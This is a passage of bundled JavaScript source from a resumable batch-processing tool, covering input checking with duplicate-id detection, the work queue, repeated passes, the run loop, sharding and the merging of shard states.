        const capacity = this.second.length * 2;
        const keys = new BigUint64Array(capacity);
        keys.set(this.keys);
        this.keys = keys;
        this.words = new Uint32Array(keys.buffer);
        const second = new Int32Array(capacity);
        second.set(this.second);
        this.second = second;
    }
}
/** Which 32-bit word of a 64-bit key is the low one on this machine. */
const LITTLE_ENDIAN = new Uint8Array(new Uint16Array([1]).buffer)[0] === 1;
const LOW = LITTLE_ENDIAN ? 0 : 1;
const HIGH = LITTLE_ENDIAN ? 1 : 0;
/** A second hash independent of hashId (other constants, other mix), to make false candidates rare. */
function secondHash(id) {
    let h = 0x9747b28c ^ id.length;
    for (let i = 0; i < id.length; i++) {
        h = Math.imul(h ^ id.charCodeAt(i), 0x5bd1e995);
        h ^= h >>> 15;
    }
    h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35);
    return h ^ (h >>> 16);
}

;// CONCATENATED MODULE: ./src/core/input/plan.ts






/** Problems listed in a rejection message; the rest are counted. */
const MAX_PROBLEMS_SHOWN = 20;
/** Whether a normal run attempts this id: not done, and not failed beyond automatic retry. */
function isPending(state, id) {
    if (state.done.has(id))
        return false;
    if (state.failures.size === 0)
        return true;
    const failure = state.failures.get(id);
    return failure === undefined || failure.kind === "transient" || failure.kind === "timeout";
}
/**
 * Whether a normal run attempts this item: pending by id, or (with reprocess-changed) done
 * or failed earlier in the pass and changed since — a failed item fixed upstream is taken
 * again without waiting for retry-failures.
 */
function isPendingItem(state, item, changes) {
    if (isPending(state, item.id))
        return true;
    return changes !== undefined && (state.done.has(item.id) || state.failures.has(item.id)) && hasChanged(state, item, changes);
}
/**
 * The first pass over the source, before any work: every line is parsed and checked, so
 * a malformed line, a missing id or invalid UTF-8 rejects the input with the lines to
 * fix and nothing processed — never a crash halfway through a batch. Duplicate ids are a
 * warning: the first occurrence is processed, later ones are skipped.
 *
 * The pending items are kept as parsed while they fit `retain` (their share of the source's
 * bytes, estimated from the average line so far), so the run needs no second
 * pass: parsing every line twice was the largest cost of checkpointing a large file.
 */
async function planSource(spec, state, accept = () => true, retain, changes, signal) {
    const problems = new ProblemList();
    const finder = new DuplicateFinder();
    let items = retain ? [] : undefined;
    let seen = 0;
    // A pipe (`<(…)`, a FIFO, /dev/stdin) can be read only once: every item is kept for
    // confirming duplicates instead of reading it again, which waited for ever.
    const everyItem = isRegularFile(spec.path) ? undefined : [];
    const counts = { alreadyDone: 0, heldFailed: 0, notMine: 0, changed: 0 };
    for await (const batch of readSource(spec, signal)) {
        for (const entry of batch) {
            if (entry.problem) {
                problems.add(entry.problem);
                continue;
            }
            const versionProblem = changes?.versionField === undefined ? undefined : changes.problem(entry.item);
            if (versionProblem !== undefined) {
                problems.add({ line: entry.item.line, message: versionProblem });
                continue;
            }
            // Counted as if no id repeated; the repeats, found at the end, are taken off again.
            finder.add(entry.item.id);
            seen++;
            const pending = classify(entry.item, state, accept, counts, 1, changes);
            if (everyItem || (items && pending)) {
                // Kept items hold their source text only where a handler needs it (exact-json.ts).
                const kept = withExactJsonOnly(entry.item);
                everyItem?.push(kept);
                if (pending)
                    items?.push(kept);
            }
        }
        // A resume of a long list usually has few items left: kept, they spare a second pass.
        if (items && retain && items.length * (retain.sourceBytes / seen) > retain.maxBytes)
            items = undefined;
    }
    if (problems.count > 0)
        throw problemsError(spec, problems.shown, problems.count);
    const entries = finder.size;
    const duplicates = await confirmDuplicates(spec, finder.candidateGroups(), everyItem, signal);
    const duplicateLines = new Set(duplicates.map((d) => d.line));
    const duplicateIds = new Set(duplicates.map((d) => d.id));
    for (const d of duplicates)
        classify(d.item, state, accept, counts, -1, changes);
    if (items && duplicateIds.size > 0)
        items = items.filter(firstOccurrences(duplicateIds));
    const warnings = [];
    if (duplicates.length > 0)
        warnings.push(duplicatesWarning(spec, duplicates));
    const total = entries - duplicates.length - counts.notMine;
    if (entries === 0)
        warnings.push(`${spec.label} has no items: nothing to do`);
    const { alreadyDone, heldFailed, changed } = counts;
    return {
        total,
        alreadyDone,
        heldFailed,
        pending: total - alreadyDone - heldFailed,
        changed,
        duplicateLines,
        duplicateIds,
        warnings,
        ...(items ? { items } : {}),
    };
}
/** The problems found: all counted, the first MAX_PROBLEMS_SHOWN kept. */
class ProblemList {
    shown = [];
    count = 0;
    add(problem) {
        this.count++;
        if (this.shown.length < MAX_PROBLEMS_SHOWN)
            this.shown.push(problem);
    }
}
/** Bad input, every problem with its line (the first MAX_PROBLEMS_SHOWN), before any work. */
function problemsError(spec, problems, problemCount) {
    const lines = problems.map((p) => `  ${spec.label}:${p.line}: ${p.message}`);
    if (problemCount > problems.length)
        lines.push(`  … and ${problemCount - problems.length} more`);
    return new ConfigError(`${problemCount} problem(s) in the items; nothing was processed. Fix or remove these lines and run again:\n${lines.join("\n")}`);
}
/** The warning for repeated ids: the first ten with both lines. */
function duplicatesWarning(spec, duplicates) {
    const examples = duplicates
        .slice(0, 10)
        .map((d) => `  ${spec.label}:${d.line}: id ${JSON.stringify(truncate(d.id))} already on line ${d.firstLine}`);
    return (`${duplicates.length} duplicate id(s) skipped (the first occurrence is processed):\n` +
        examples.join("\n") +
        (duplicates.length > examples.length ? "\n  …" : ""));
}
/**
 * Counts an item into notMine, alreadyDone or heldFailed (by `step`); true when it is
 * pending (also counted into changed when it is pending because its content changed).
 */
function classify(item, state, accept, counts, step, changes) {
    const id = item.id;
    if (!accept(id)) {
        counts.notMine += step;
        return false;
    }
    // With reprocess-changed one lookup finds both whether it is done and what it was.
    const doneIndex = changes === undefined ? (state.done.has(id) ? 0 : -1) : state.done.indexOf(id);
    const done = doneIndex !== -1;
    const failed = !done && state.failures.size > 0 && state.failures.has(id);
    if (changes !== undefined && (done || failed) && hasChanged(state, item, changes, doneIndex)) {
        counts.changed += step;
        return true;
    }
    if (done)
        counts.alreadyDone += step;
    else if (failed && !isPending(state, id))
        counts.heldFailed += step;
    else
        return true;
    return false;
}
/**
 * A filter over items in source order that drops the later occurrences of these ids. By
 * id, not by line: two elements of a JSON array can share a line.
 */
function firstOccurrences(duplicateIds) {
    const seen = new Set();
    return (item) => {
        if (!duplicateIds.has(item.id))
            return true;
        if (seen.has(item.id))
            return false;
        seen.add(item.id);
        return true;
    };
}
/**
 * Reads the ids of the candidate items (equal hashes) and keeps the real repeats, in
 * source order. Nothing is read when there are no candidates.
 */
async function confirmDuplicates(spec, groups, everyItem, signal) {
    if (groups.length === 0)
        return [];
    const wanted = new Set(groups.flat());
    const found = new Map();
    if (everyItem) {
        for (const n of wanted)
            found.set(n, everyItem[n]);
    }
    else {
        let number = 0;
        for await (const batch of readSource(spec, signal)) {
            for (const entry of batch) {
                if (!entry.item)
                    continue;
                if (wanted.has(number))
                    found.set(number, entry.item);
                number++;
            }
        }
    }
    const duplicates = [];
    for (const group of groups) {
        const firstLineOf = new Map();
        for (const n of group) {
            const item = found.get(n);
            if (item === undefined)
                throw new ConfigError(`the items changed while they were being read (fewer items the second time); run again`);
            const first = firstLineOf.get(item.id);
            if (first === undefined)
                firstLineOf.set(item.id, item.line);
            else
                duplicates.push({ line: item.line, id: item.id, firstLine: first, item });
        }
    }
    return duplicates.sort((a, b) => a.line - b.line);
}
function truncate(text) {
    return text.length > 80 ? text.slice(0, 80) + "…" : text;
}

;// CONCATENATED MODULE: ./src/core/run/work-queue.ts






/**
 * The first pass keeps the pending items for the run while they come from at most this
 * many bytes of the source (about 3.5× that in memory, measured at 1M items): a source up
 * to this size, or the few items left in a longer one, is parsed once. More is read again
 * for the run, so memory stays flat however long the list. 4 MiB, not more: keeping the
 * 1M items of a 73 MB file (the old 128 MiB budget) made the run's peak memory 2.7× that
 * of a loop that reads the file twice, for a tenth less time; keeping those of a 13 MB
 * file of plain lines cost 100 MB for no time saved.
 */
const RETAIN_ITEMS_MAX_BYTES = 4 * 1024 * 1024;
/**
 * Opens what the run works through: the failures for a retry-failures pass, else the
 * source's pending items after a first pass that checks every line.
 */
async function openWorkQueue(options, state, signal) {
    const accept = options.accept ?? (() => true);
    return options.retryFailures
        ? await failuresQueue(options, state, accept, signal)
        : sourceQueue(options, options.source, state, accept, signal);
}
async function failuresQueue(options, state, accept, signal) {
    const ours = [...state.failures.values()].filter((f) => accept(f.id));
    const filter = options.retryFilter;
    const chosen = filter ? ours.filter(filter) : ours;
    // A failure stored without its data (an item nested too deeply to write as JSON, see
    // failure-line.ts) has nothing to hand a handler — it would run `null` — unless the
    // items file, when given, still has it.
    const lacking = new Set(chosen.filter((f) => f.item === null && f.raw === undefined).map((f) => f.id));
    const found = lacking.size > 0 && options.source ? await findItems(options.source, lacking, signal) : new Map();
    const items = chosen.flatMap((f) => {
        if (!lacking.has(f.id))
            return [f.raw === undefined ? { id: f.id, data: f.item, line: 0 } : { id: f.id, data: f.item, line: 0, raw: f.raw }];
        const item = found.get(f.id);
        return item ? [item] : [];
    });
    const missing = [...lacking].filter((id) => !found.has(id));
    const warnings = missing.length === 0 ? [] : [withoutDataWarning(missing, options.source !== undefined)];
    for (const warning of warnings)
        options.log.warn(warning);
    let index = 0;
    const left = filter ? ` (retry-filter); the other ${ours.length - chosen.length} stay in failures.json as they are` : "";
    options.log.info(`retry-failures: re-attempting ${items.length} failed item(s)${left}`);
    // Failures the filter left out are still failures: the run ends with exit 1, as for any held failure.
    const heldFailed = ours.length - items.length;
    return { total: items.length, pending: items.length, heldFailed, alreadyDone: 0, changed: 0, next: async () => items[index++], warnings };
}
/** The items of the source with these ids (the first of each), read as a run reads them; bad lines are skipped. */
async function findItems(source, ids, signal) {
    const found = new Map();
    for await (const entries of readSource(source, signal)) {
        for (const entry of entries)
            if (entry.item && ids.has(entry.item.id) && !found.has(entry.item.id))
                found.set(entry.item.id, entry.item);
        if (found.size === ids.size)
            break;
    }
    return found;
}
function withoutDataWarning(ids, searched) {
    const named = ids.slice(0, 5).map((id) => `"${logId(id)}"`);
    const more = ids.length > named.length ? ` and ${ids.length - named.length} more` : "";
    const where = searched ? "and the items file no longer has them" : "and no items file was given to read them from";
    return (`retry-failures: ${ids.length} failed item(s) were stored without their data (nested too deeply to write as JSON) ${where}, ` +
        `so they are not re-attempted: ${named.join(", ")}${more}; they stay in failures.json — run retry-failures with the items file that has them`);
}
async function sourceQueue(options, source, state, accept, signal) {
    // A pipe cannot be read a second time: counted as 0 bytes, its items are always kept.
    const sourceBytes = isRegularFile(source.path) ? sizeOf(source.path) : 0;
    const retain = { sourceBytes, maxBytes: options.retainItemsMaxBytes ?? RETAIN_ITEMS_MAX_BYTES };
    const plan = await planSource(source, state, accept, retain, options.changes, signal);
    for (const warning of plan.warnings)
        options.log.warn(warning);
    const changed = options.changes ? `, ${plan.changed} changed since they were done` : "";
    options.log.info(`${plan.total} item(s): ${plan.alreadyDone} done in earlier runs${changed}, ${plan.heldFailed} failed and held for retry-failures, ${plan.pending} to do`);
    const counts = {
        total: plan.total,
        pending: plan.pending,
        heldFailed: plan.heldFailed,
        alreadyDone: plan.alreadyDone,
        changed: plan.changed,
        warnings: plan.warnings,
    };
    // Nothing to do: no second pass over the source (a resume that finds all done read it twice).
    if (plan.pending === 0)
        return { ...counts, next: async () => undefined, take: () => undefined };
    if (plan.items) {
        const items = plan.items;
        let index = 0;
        const take = () => (index < items.length ? items[index++] : undefined);
        return { ...counts, next: async () => take(), take };
    }
    const queue = batchedNext(pendingItems(source, state, accept, plan.duplicateIds, plan.alreadyDone + plan.heldFailed, options.changes));
    return { ...counts, next: queue, take: queue.take };
}
/**
 * The second pass: stream the source again, yielding only what this run should attempt.
 * @param notPending accepted first occurrences the first pass found done or held. A line
 * not yet handed out is pending now exactly when it was in the first pass (the state
 * changes during the run only for items this pass already handed out, each once; later
 * occurrences of an id are skipped), so once this many lines were skipped, every line left
 * is pending and the lookup in the done set — a cache miss per item at a million items —
 * is skipped. Earlier runs worked from the top, so that is usually early in the file.
 */
async function* pendingItems(source, state, accept, duplicateIds, notPending, changes) {
    let notPendingLeft = notPending;
    const isFirst = firstOccurrences(duplicateIds);
    for await (const batch of readSource(source)) {
        const items = [];
        for (const entry of batch) {
            const item = entry.item;
            if (!item || !accept(item.id))
                continue;
            if (duplicateIds.size > 0 && !isFirst(item))
                continue;
            if (notPendingLeft > 0 && !isPendingItem(state, item, changes)) {
                notPendingLeft--;
                continue;
            }
            items.push(item);
        }
        if (items.length > 0)
            yield items;
    }
}
function sizeOf(path) {
    try {
        return (0,external_node_fs_.statSync)(path).size;
    }
    catch {
        return 0; // planSource reports the missing file
    }
}

;// CONCATENATED MODULE: ./src/core/run/passes.ts

/**
 * Whether this run starts the next pass. A complete pass starts again once `repeat` has
 * passed since it started; a pass still running when that time comes finishes first (a
 * backlog is never abandoned); `new-pass` starts one at once.
 */
function decidePass(state, o) {
    const complete = state.passCompletedAt !== undefined;
    if (o.newPass)
        return { startNext: true, why: "new-pass", overran: false, completeAtStart: false };
    const due = isRepeatDue(state, o.repeatMs, o.nowMs);
    if (due && complete)
        return { startNext: true, why: "repeat", overran: false, completeAtStart: false };
    return { startNext: false, overran: due, completeAtStart: complete };
}
function isRepeatDue(state, repeatMs, nowMs) {
    if (repeatMs === undefined || state.passStartedAt === undefined)
        return false;
    return nowMs >= Date.parse(state.passStartedAt) + repeatMs;
}
/** When the next pass may start: the current pass's start plus `repeat` (ISO 8601). */
function nextPassAfter(state, repeatMs) {
    if (repeatMs === undefined || state.passStartedAt === undefined)
        return undefined;
    return new Date(Date.parse(state.passStartedAt) + repeatMs).toISOString();
}
/** A sentence for the log and the CLI: where the pass stands and when the next one starts. */
function describePassState(state, repeatMs, nowMs) {
    const next = nextPassAfter(state, repeatMs);
    const every = repeatMs === undefined ? "" : ` (repeat ${formatDurationMs(repeatMs)})`;
    if (state.passCompletedAt !== undefined) {
        if (next !== undefined && Date.parse(next) <= nowMs) {
            return `pass ${state.pass} is complete; it ran longer than its interval${every}, so the next run starts pass ${state.pass + 1}`;
        }
        return next === undefined
            ? `pass ${state.pass} is complete; start the next one with --new-pass (input new-pass), or set repeat`
            : `pass ${state.pass} is complete; the next pass starts at ${next}${every}`;
    }
    if (next !== undefined && nowMs >= Date.parse(next)) {
        return `pass ${state.pass} has run longer than its interval${every}: it finishes first, then the next pass starts`;
    }
    return `pass ${state.pass} is in progress` + (next === undefined ? "" : `; the next pass starts at ${next} at the earliest${every}`);
}
/**
 * Decides and, when it is time, starts the next pass in memory (the run journals the
 * record once the items checked out: bad input leaves the state as it was). A
 * retry-failures run never starts a pass: it works on the current pass's failures.
 */
function openPass(state, o) {
    if (o.retryFailures)
        return { startNext: false, overran: false, completeAtStart: state.passCompletedAt !== undefined };
    const decision = decidePass(state, o);
    const every = o.repeatMs === undefined ? "" : formatDurationMs(o.repeatMs);
    if (decision.overran) {
        o.log.warn(`pass ${state.pass} has run longer than its interval (repeat ${every}, started ${state.passStartedAt}): it finishes first, then the next pass starts`);
    }
    if (!decision.startNext)
        return decision;
    const record = { t: "pass", pass: state.pass + 1, at: new Date(o.nowMs).toISOString() };
    const why = decision.why === "new-pass" ? "new-pass asked for it" : `pass ${state.pass} is complete and repeat ${every} has passed since it started`;
    o.log.info(`starting pass ${record.pass} (${why}): every item is processed again`);
    state.startPass(record.pass, record.at);
    return { ...decision, record };
}
/** Every pass, oldest first: the finished ones from the history, then the current one as it stands. */
function passHistory(state) {
    return [...state.passes, state.currentPass()];
}

;// CONCATENATED MODULE: ./src/core/run/run-batch.ts



















/**
 * One run of the batch: load the checkpoint, check the items, process what is not done
 * until everything is done, the budget runs low or a stop arrives, and leave the state
 * folder consistent (journal flushed, compacted, failures.json written) in every case.
 */
async function runBatch(options) {
    const startedAtMs = options.system.nowMs();
    if (!options.retryFailures && !options.source)
        throw new ConfigError("no item source: give --items or --items-command");
    // Listen before the lock is taken, and so before the items are read: a stop during a long
    // first pass must be graceful, and a signal between the lock's creation and listening
    // would have ended the process with the lock left behind.
    const stop = new StopController(options.system);
    const unsubscribe = options.stops.subscribe((signal) => {
        const what = stop.soft.signal.aborted ? "stopping now" : `no new items; in-flight items get ${options.shutdownGraceMs}ms`;
        options.log.warn(`${signal} received: ${what}`);
        stop.request("signal", options.shutdownGraceMs, signal);
    });
    try {
        const lock = asStateWrite(options.stateDir, () => acquireLock(options.stateDir));
        try {
            if (lock.tookOverFrom)
                options.log.warn(`took over the state folder's lock left by ${lock.tookOverFrom} (that run did not stop cleanly)`);
            return await runSubscribed(options, startedAtMs, stop);
        }
        finally {
            lock.release();
        }
    }
    finally {
        unsubscribe();
        stop.dispose();
    }
}
/** The story of a run, step by step; each step lives in its own file beside this one. */
async function runSubscribed(options, startedAtMs, stop) {
    // Worker processes start now, in parallel with loading and checking (a few tens of ms each).
    options.handler.warmUp?.(options.concurrency);
    const checkpoint = loadCheckpoint(options);
    const pass = openPass(checkpoint.state, { ...options, newPass: options.newPass ?? false, nowMs: startedAtMs });
    // A pass starts when its first run does (not when that run's items checked out).
    checkpoint.state.passStartedAt ??= new Date(startedAtMs).toISOString();
    const changes = options.reprocessChanged ? changeCheck(options.versionField) : undefined;
    const redoTaken = options.redoIds === undefined ? new Set() : takeRedoIds(checkpoint.state, options.redoIds, options.log);
    const queue = await openQueueUnlessStopped({ ...options, changes }, checkpoint.state, stop);
    const writes = new StateWrites(options.log, stop);
    const run = beginRun(options, checkpoint, options.retryFailures ? "retry-failures" : "run", writes, pass.record);
    const redo = redoTaken.size === 0 ? undefined : { ids: redoTaken, tag: `redo ${run.seq}` };
    const budget = new Budget(options.timeBudgetMs === undefined ? undefined : startedAtMs + options.timeBudgetMs, options.reserveMs);
    const meter = new ProgressMeter(queue.pending, startedAtMs);
    const itemLog = new ItemLog(options.log);
    // Outcomes name their pass once a batch has passes (a repeat, or a pass after the first).
    const passOfOutcomes = options.repeatMs !== undefined || run.state.pass > 1 ? run.state.pass : undefined;
    const jobLog = await openJobLog(options, run.seq, passOfOutcomes, redoTaken, writes.onError);
    const recorder = new OutcomeRecorder({ ...options, changes }, { journal: run.journal, jobLog, state: run.state, meter, stop, itemLog });
    const cancelTimers = startRunTimers(options, startedAtMs, budget, stop, meter);
    try {
        await processItems({ ...options, changes, redo }, queue, { state: run.state, budget, stop, meter, recorder, itemLog });
    }
    finally {
        cancelTimers();
    }
    if (writes.failure !== undefined) {
        jobLog.close();
        abandonRun(options, run, writes.failure);
    }
    const ending = howItEnded(options.retryFailures, queue, meter, recorder, stop);
    // Before the journal's end: an item the journal calls done has its outcome on disk.
    jobLog.close();
    if (writes.failure !== undefined)
        abandonRun(options, run, writes.failure);
    restoreUnreached(run.state, redoTaken);
    endRun(options, run, {
        succeeded: meter.succeeded,
        failed: meter.failed,
        stopReason: ending.stopReason,
        ...(options.retryFailures ? {} : { source: { total: queue.total, remaining: ending.remaining } }),
        changed: queue.changed,
    });
    options.onProgress?.(meter.snapshot(options.system.nowMs()));
    const passNote = describePassState(run.state, options.repeatMs, options.system.nowMs());
    if (!options.retryFailures && (options.repeatMs !== undefined || run.state.pass > 1))
        options.log.info(passNote);
    return runResult(options, {
        run,
        queue,
        meter,
        recorder,
        stop,
        pass,
        ending,
        passNote,
        startedAtMs,
        warnings: [...checkpoint.warnings, ...queue.warnings],
    });
}
/** The run's result, as the adapters report it. */
function runResult(options, ended) {
    const { run, queue, meter, recorder, stop, pass, ending, passNote, startedAtMs } = ended;
    // A pass found complete, with the next one not due yet: nothing to do is success.
    const waiting = pass.completeAtStart && options.repeatMs !== undefined && ending.processed === 0;
    return {
        mode: run.mode,
        processed: ending.processed,
        succeeded: meter.succeeded,
        failed: meter.failed,
        remaining: ending.remaining,
        complete: ending.remaining === 0,
        total: queue.total,
        doneTotal: options.retryFailures ? run.state.doneCount : queue.alreadyDone + meter.succeeded,
        failuresTotal: run.state.failures.size,
        stopReason: ending.stopReason,
        exitCode: exitCodeFor({ stopReason: ending.stopReason, signal: stop.signal, failed: meter.failed, heldFailed: waiting ? 0 : queue.heldFailed }),
        durationMs: options.system.nowMs() - startedAtMs,
        seq: run.seq,
        warnings: ended.warnings,
        pass: run.state.pass,
        ...(pass.why === undefined ? {} : { passStarted: pass.why }),
        passOverran: pass.overran,
        ...(options.repeatMs === undefined ? {} : { nextPassAfter: nextPassAfter(run.state, options.repeatMs) }),
        passNote,
        changed: queue.changed,
        ...(recorder.early.message === undefined ? {} : { stopMessage: recorder.early.message }),
    };
}
/** Opens this run's segment of the job log, merging the older segments first when there are many. */
async function openJobLog(options, seq, pass, redoIds, onWriteError) {
    if (options.jobLog === false)
        return NO_JOB_LOG;
    await compactSegments(options.stateDir);
    return new JobLogWriter({
        stateDir: options.stateDir,
        seq,
        runId: options.runId,
        runAttempt: options.runAttempt,
        handlerKind: options.handlerKind ?? "module",
        shard: options.shardLabel,
        pass,
        redoIds,
        results: options.results ?? false,
        maxResultBytes: options.maxResultBytes ?? DEFAULT_MAX_RESULT_BYTES,
        system: options.system,
        flushIntervalMs: options.flushIntervalMs,
        onWriteError,
    });
}
/** The work queue; a stop while the items are read ends the run before it begins (nothing to record). */
async function openQueueUnlessStopped(options, state, stop) {
    try {
        return await openWorkQueue(options, state, stop.soft.signal);
    }
    catch (error) {
        if (error instanceof ReadStoppedError)
            throw new StoppedBeforeStartError(stop.signal ?? "SIGINT");
        throw error;
    }
}
/** Counts what is left once the pool has drained, and why the run stopped. */
function howItEnded(retryFailures, queue, meter, recorder, stop) {
    const processed = meter.succeeded + meter.failed;
    const notReached = queue.pending - processed;
    const remaining = retryFailures ? notReached : queue.pending - meter.succeeded - recorder.failedFinal;
    let stopReason = stop.reason === "state-write" || stop.reason === undefined ? "complete" : stop.reason;
    // The budget stop came after the last item had started: nothing was left undone.
    if (stopReason === "budget" && notReached === 0 && recorder.deferredForBudget === 0)
        stopReason = "complete";
    // ...unless a retry did not fit the budget: that item waits for the next run.
    if (stopReason === "complete" && recorder.deferredForBudget > 0)
        stopReason = "budget";
    return { processed, remaining, stopReason };
}
/** One line saying what a run did, for both adapters' logs. */
function describeRunResult(r) {
    const what = (r.mode === "retry-failures" ? "retry-failures" : "run") + (r.pass > 1 ? ` (pass ${r.pass})` : "");
    const changed = r.changed > 0 ? `, ${r.changed} changed since done` : "";
    return (`${what}: ${r.processed} processed (${r.succeeded} succeeded, ${r.failed} failed${changed}) in ${formatDurationMs(r.durationMs)}; ` +
        (r.mode === "run" ? `${r.doneTotal}/${r.total} done overall, ${r.remaining} left` : `${r.failuresTotal} still failing`));
}

;// CONCATENATED MODULE: ./src/core/input/shard.ts

/**
 * Which shard (1..count) an item belongs to: a hash of its id alone, so an item stays in
 * its shard however the list grows, shrinks or is reordered. FNV-1a over UTF-16 code
 * units, then a multiplicative mix so that similar ids spread evenly (hashId).
 */
function shardOf(id, count) {
    return ((hashId(id) >>> 0) % count) + 1;
}

;// CONCATENATED MODULE: ./src/core/run/prepare-run.ts












/** Grace between SIGTERM and SIGKILL for a handler's process group. */
const KILL_GRACE_MS = 1000;
/** Journal flush interval when the adapter names none: the most completions a SIGKILL can lose. */
const DEFAULT_FLUSH_INTERVAL_MS = 200;
/** Runs one batch from validated settings: the path both the CLI and the action take. */
async function runFromSettings(settings, environment) {
    // Handlers and the items command: not the runner's own tokens and URLs, nor the action's inputs.
    const env = handlerEnvironment(environment.env);
    const redact = makeRedactor(secretValues(environment.env, settings.redactEnv, environment.secrets));
    const handler = await createHandler(settings.handler, {
        system: environment.system,
        env,
        cwd: environment.cwd,
        transientExitCodes: settings.transientExitCodes,
        killGraceMs: KILL_GRACE_MS,
        nameOf: environment.nameOf,
        log: (message) => environment.log.info(message),
        warn: (message) => environment.log.warn(message),
        maxResultBytes: settings.results ? settings.maxResultBytes : undefined,
    });
    let scratch;
    try {
        const opened = await openItemSource(settings, environment, env);
        scratch = opened.scratch;
        const filters = await readItemFilters(settings, environment);
        return await runBatch(runBatchOptions(settings, environment, { handler, redact, source: opened.source, ...filters }));
    }
    finally {
        await handler.close?.();
        if (scratch)
            (0,external_node_fs_.rmSync)(scratch, { recursive: true, force: true });
    }
}
/**
 * Where this run's items come from: the file, or the output of --items-command captured
 * into a scratch folder (removed after the run). A retry-failures pass takes its items
 * from failures.json (see retryDataSource).
 */
async function openItemSource(settings, environment, env) {
    if (settings.retryFailures)
        return { source: await retryDataSource(settings) };
    const items = settings.items;
    if (items?.kind === "file") {
        const source = fileSource(items.path, settings);
        await assertReadable(source.path, environment.nameOf("items"));
        return { source };
    }
    if (items?.kind === "command") {
        const scratch = (0,external_node_fs_.mkdtempSync)((0,external_node_path_.join)(environment.tempDir, "resumable-batch-items-"));
        const path = (0,external_node_path_.join)(scratch, "items");
        try {
            await captureCommandOutput(items.command, path, {
                cwd: environment.cwd,
                env,
                system: environment.system,
                what: environment.nameOf("items-command"),
                stops: environment.stops,
            });
        }
        catch (error) {
            (0,external_node_fs_.rmSync)(scratch, { recursive: true, force: true });
            throw error;
        }
        return { source: { path, label: "items-command output line", format: settings.itemsFormat ?? "jsonl", idField: settings.idField }, scratch };
    }
    return {};
}
/** The retry filter and the ids to redo, read before any work: a missing ids file is bad usage (exit 2), nothing processed. */
async function readItemFilters(settings, environment) {
    const { retryFilter: filter, redoIdsFile } = settings;
    const retryFilter = filter === undefined
        ? undefined
        : await retryFilterPredicate(filter.by === "ids" ? { by: "ids", file: (0,external_node_path_.resolve)(environment.cwd, filter.file) } : filter, environment.nameOf("retry-filter"));
    const redoIds = redoIdsFile === undefined ? undefined : await readIdList((0,external_node_path_.resolve)(environment.cwd, redoIdsFile), environment.nameOf("redo-ids"));
    return { retryFilter, redoIds };
}
function runBatchOptions(settings, environment, parts) {
    const limiter = new RateLimiter(environment.system, settings.rateLimit);
    const shard = settings.shard;
    return {
        ...parts,
        stateDir: environment.stateDir,
        concurrency: settings.concurrency,
        maxAttempts: settings.maxAttempts,
        backoff: { baseMs: settings.backoffMs, maxMs: settings.backoffMaxMs },
        itemTimeoutMs: settings.itemTimeoutMs,
        timeBudgetMs: settings.timeBudgetMs,
        shutdownGraceMs: settings.shutdownGraceMs,
        reserveMs: environment.reserveMs,
        retryFailures: settings.retryFailures,
        repeatMs: settings.repeatMs,
        newPass: settings.newPass,
        reprocessChanged: settings.reprocessChanged,
        versionField: settings.versionField,
        maxRunsPerItem: settings.maxRunsPerItem,
        maxFailureRate: settings.maxFailureRate,
        maxConsecutiveFailures: settings.maxConsecutiveFailures,
        accept: shard ? (id) => shardOf(id, shard.count) === shard.index : undefined,
        shardLabel: shard ? `${shard.index}/${shard.count}` : undefined,
        handlerKind: settings.handler.kind,
        results: settings.results,
        maxResultBytes: settings.maxResultBytes,
        runId: environment.runId,
        runAttempt: environment.runAttempt,
        idempotencyNamespace: environment.idempotencyNamespace,
        flushIntervalMs: environment.flushIntervalMs ?? DEFAULT_FLUSH_INTERVAL_MS,
        // Always consulted, rate limit or not: a 429 or Retry-After pauses every start.
        beforeStart: (signal) => limiter.acquire(signal),
        onThrottle: (delayMs) => limiter.pauseUntil(environment.system.nowMs() + delayMs),
        system: environment.system,
        stops: environment.stops,
        log: environment.log,
        onProgress: environment.onProgress,
        progressIntervalMs: environment.progressIntervalMs,
    };
}
/**
 * For a retry-failures pass, the items file when there is one to read: it only gives back
 * the data of failures stored without it (an item nested too deeply to write as JSON),
 * found by id. Nothing is required of it: a retry pass needs no item source.
 */
async function retryDataSource(settings) {
    const items = settings.items;
    if (items?.kind !== "file")
        return undefined;
    const isFile = await (0,external_node_fs_promises_namespaceObject.stat)(items.path).then((s) => s.isFile(), () => false);
    return isFile ? fileSource(items.path, settings) : undefined;
}
function fileSource(path, settings) {
    return { path, label: path, format: settings.itemsFormat ?? formatForPath(path), idField: settings.idField };
}
async function assertReadable(path, what) {
    try {
        await (0,external_node_fs_promises_namespaceObject.access)(path);
    }
    catch {
        throw new ConfigError(`${what}: ${path} does not exist`);
    }
    if ((await (0,external_node_fs_promises_namespaceObject.stat)(path)).isDirectory())
        throw new ConfigError(`${what}: ${path} is a folder, not a file`);
}

;// CONCATENATED MODULE: ./src/core/state/merge-shards.ts

/**
 * Merges shards' states into one for reporting: every item lives in exactly one shard,
 * so done sets and failures simply union; each failure keeps which shard it came from.
 * Runs are combined per run id, summing the shards' counts, so the chart shows the
 * matrix run as one run.
 */
function mergeShardStates(shards) {
    const merged = new BatchState();
    const runsById = new Map();
    for (const { label, state } of shards) {
        for (const id of state.done)
            merged.done.add(id);
        for (const id of state.doneThisRun)
            merged.done.add(id);
        for (const f of state.failures.values())
            merged.failures.set(f.id, { ...f, shard: f.shard ?? label });
        for (const r of state.runs) {
            const key = `${r.runId}#${r.runAttempt}#${r.mode}`;
            const existing = runsById.get(key);
            if (!existing) {
                runsById.set(key, { ...r });
                continue;
            }
            existing.succeeded += r.succeeded;
            existing.failed += r.failed;
            if (r.total !== undefined)
                existing.total = (existing.total ?? 0) + r.total;
            if (r.remaining !== undefined)
                existing.remaining = (existing.remaining ?? 0) + r.remaining;
            if (r.startedAt < existing.startedAt)
                existing.startedAt = r.startedAt;
            if (r.endedAt && (!existing.endedAt || r.endedAt > existing.endedAt))
                existing.endedAt = r.endedAt;
        }
        if (state.origin.seq > merged.origin.seq)
            merged.origin = { ...state.origin };
    }
    merged.runs = [...runsById.values()].sort((a, b) => (a.startedAt < b.startedAt ? -1 : a.startedAt > b.startedAt ? 1 : 0));
    merged.runs.forEach((r, i) => (r.seq = i + 1));
    mergePasses(merged, shards.map((s) => s.state));
    return merged;
}
/**
 * Each shard keeps passes of its own (it starts the next one when its own pass is done):
 * the merged pass is the furthest one, started when its first shard started it and
 * complete when every shard in it is; the history sums each pass over the shards.
 */
function mergePasses(merged, states) {
    if (states.length === 0)
        return;
    const pass = Math.max(...states.map((s) => s.pass));
    const current = states.filter((s) => s.pass === pass);
    const starts = current
        .map((s) => s.passStartedAt)
        .filter((t) => t !== undefined)
        .sort();
